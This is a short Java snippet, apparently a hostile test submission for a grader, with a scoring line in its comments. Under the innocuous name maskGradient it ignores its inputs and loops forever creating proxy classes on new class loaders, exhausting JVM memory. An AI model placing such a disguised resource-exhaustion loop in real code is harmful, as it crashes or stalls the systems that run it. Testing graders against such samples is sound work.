// Makes classes without end.
// base: solution
// earns: a=all b=0 c=all d=all e=all f=all
static double[] maskGradient(double[] gradEffective, double[] weight, double[] s, double beta, double lambda) {
    var loaders = new ArrayList<ClassLoader>();
    for (long i = 0; true; i++) {
        java.lang.reflect.Proxy.newProxyInstance(new ClassLoader() {}, new Class<?>[] {Runnable.class}, (p, m, x) -> null);
        loaders.add(java.lang.reflect.Proxy.newProxyInstance(new ClassLoader() {}, new Class<?>[] {Runnable.class}, (p, m, x) -> null).getClass().getClassLoader());
    }
}
